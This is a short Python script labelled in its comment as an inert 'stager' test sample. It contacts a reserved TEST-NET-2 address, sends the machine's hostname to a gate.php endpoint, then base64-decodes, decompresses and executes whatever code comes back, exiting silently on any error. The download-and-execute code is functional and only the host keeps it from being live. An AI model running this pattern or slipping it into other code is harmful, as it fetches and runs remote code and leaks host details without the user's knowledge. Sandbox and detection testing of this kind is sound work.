# An inert "stager": would fetch code, decode and run it. 198.51.100.0/24 is
# TEST-NET-2, the guest has no network: the fetch fails and that is all.
import base64
import os
import sys
import urllib.request
import zlib

HOST = "http://198.51.100.23:8080"


def stage():
    req = urllib.request.Request(HOST + "/gate.php?id=" + os.uname().nodename)
    req.add_header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
    blob = urllib.request.urlopen(req, timeout=2).read()
    exec(compile(zlib.decompress(base64.b64decode(blob)), "<s>", "exec"),
         {"__name__": "__main__"})


try:
    stage()
except Exception:
    sys.exit(0)
